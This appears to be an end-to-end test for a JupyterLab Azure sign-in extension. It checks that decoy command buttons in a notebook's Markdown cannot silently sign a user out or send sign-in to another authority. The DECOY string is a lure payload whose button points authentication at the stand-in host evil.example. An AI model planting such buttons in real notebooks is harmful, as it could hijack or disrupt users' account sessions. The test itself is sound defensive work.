import { authenticate } from './lab';
import { expect, test } from './fixtures';

/** Buttons that run commands, as an author of notebooks can write them into Markdown. */
const DECOY = [
  '<button data-commandlinker-command="azure-auth:sign-out">free money</button>',
  '<button data-commandlinker-command="azure-auth:sign-in" ',
  'data-commandlinker-args=\'{"authority": "https://evil.example", "scopes": ["x"]}\'>more</button>'
].join('');

test('no click on an output signs out, or signs in elsewhere', async ({ lab, jupyter, alice }) => {
  const notebook = {
    ...{ nbformat: 4, nbformat_minor: 5 },
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3' } },
    cells: [
      {
        cell_type: 'code',
        id: 'code',
        execution_count: null,
        metadata: {},
        outputs: [],
        source: ''
      },
      { cell_type: 'markdown', id: 'lure', metadata: {}, source: DECOY }
    ]
  };
  await lab.open(await jupyter.writeFile('lure.ipynb', JSON.stringify(notebook)));
  await lab.signIn(alice);

  // JupyterLab itself asks first; the rest must hold if the user clicks anyway.
  const dialog = lab.page.getByRole('dialog');
  const runOnce = dialog.getByRole('button', { name: 'Run Once' });
  await lab.page.getByRole('button', { name: 'free money' }).click();
  await runOnce.click();
  await expect(dialog).toContainText('Sign out of Azure?');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(lab.panel.getByText(alice.username)).toBeVisible();

  const hosts = new Set<string>();
  lab.page.context().on('request', request => hosts.add(new URL(request.url()).hostname));
  await lab.page.getByRole('button', { name: 'more' }).click();
  const popup = await lab.popupOf(() => runOnce.click());
  // The command means another account now, and the user picks the same one.
  await authenticate(popup, alice);
  await expect.poll(() => popup.isClosed()).toBe(true);
  await expect(lab.panel.getByText(alice.username)).toBeVisible();
  expect([...hosts]).toEqual(['localhost']);
});
